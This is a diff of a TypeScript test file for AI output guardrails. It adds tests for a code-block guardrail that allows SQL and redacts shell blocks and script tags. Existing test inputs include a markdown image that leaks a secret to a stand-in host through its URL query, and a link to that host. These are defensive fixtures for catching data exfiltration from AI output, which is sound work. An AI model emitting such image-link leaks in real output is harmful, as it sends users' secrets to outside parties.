@@ -7,6 +7,7 @@ import {
 } from '@aiwork/contract-tests';
 import type { Guardrail } from '@aiwork/core';
 import { z } from 'zod';
+import { codeGuardrail } from './src/code/code-guardrail.ts';
 import { guardrailChain } from './src/combine/guardrail-chain.ts';
 import { customGuardrail } from './src/custom-guardrail.ts';
 import { injectionGuardrail } from './src/injection/injection-guardrail.ts';
@@ -118,6 +119,13 @@ export default [
     catches: [
       { text: '![](https://evil.example/?q=hunter2) x', action: 'redact', found: 'hunter2' },
       { text: 'a [b](//evil.example) c', action: 'redact', found: '//evil.example' },
+    ],
+  }),
+  holdTo(codeGuardrail({ name: 'code', allow: ['sql'] }), {
+    passes: ['```sql\nselect 1\n```', 'no code'],
+    catches: [
+      { text: 'a\n```sh\nhunter2\n```\nb', action: 'redact', found: 'hunter2' },
+      { text: 'a <script>hunter2</script> b', action: 'redact', found: 'hunter2' },
     ],
   }),
   holdTo(lengthGuardrail({ name: 'length', unit: 'words', max: 3, whileStreaming: 'show' }), {
